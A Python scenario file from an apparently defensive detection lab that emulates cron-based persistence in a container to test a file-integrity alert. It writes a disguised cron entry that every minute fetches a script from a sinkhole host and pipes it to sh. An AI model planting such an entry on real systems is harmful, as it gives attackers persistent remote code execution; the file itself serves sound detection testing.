"""Cron entry dropped inside a container"""

from __future__ import annotations

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario


class CronEntry(Scenario):
    id = "docker.fim.cron-entry"
    title = "Cron entry dropped inside a container"
    kind = Kind.ADVERSARY
    techniques = ("T1053.003",)
    expect = Expectation(fires=("stowaway.host.fim-cron",), within_s=15)
    twin = "docker.fim.config-management"
    tags = ("fim", "persistence")
    description = (
        "In a running container, writes /etc/cron.d/sysstat-update, an entry that every minute "
        "fetches a script from the lab sinkhole and pipes it to sh (the classic miner re-infection "
        "loop). The scenario checks the entry is in place."
    )

    def detonate(self, lab: Lab) -> None:
        box = lab.deploy(WorkloadSpec(role="batch"))
        lab.action("write a cron entry")
        entry = f"* * * * * root curl -s http://{lab.sinkhole.address}/u.sh | sh"
        lab.exec(box, "sh", "-c", f"echo '{entry}' > /etc/cron.d/sysstat-update && test -s /etc/cron.d/sysstat-update")
